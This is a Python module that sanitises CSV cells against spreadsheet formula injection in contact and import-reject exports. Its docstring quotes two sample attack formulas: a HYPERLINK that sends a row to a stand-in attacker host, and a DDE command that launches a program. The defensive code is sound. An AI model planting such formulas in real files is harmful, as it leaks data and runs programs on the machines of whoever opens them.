"""Cells of the CSV files people open in a spreadsheet: text that a spreadsheet would run as a formula
is written so that it reads as text.

A street, a name, a note or an answer comes from a voter file or a phone. A cell that starts with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheets skip before
reading the rest as a formula) would be run by Excel, LibreOffice or Google Sheets when an organizer
opens the export: ``=HYPERLINK("http://evil.example/?"&A2, "click")`` sends a row away,
``=cmd|' /C calc'!A0`` starts a program. OWASP's rule: put an apostrophe before such a cell, so the
spreadsheet shows it as text (https://owasp.org/www-community/attacks/CSV_Injection). A plain number
(``-24.94``, a longitude) is left alone: it is not a formula, and a rejects file must read back.

Pure: every CSV we write (the contact export on the web and from ``flask export-contacts``, and the
rejected rows of an import) passes its cells through :func:`safe_cell`, here and nowhere else.
"""
from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should read it: text starting like a formula gets an apostrophe
    before it; numbers, empty cells and other text are returned as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row) -> list:
    """Each cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in row]
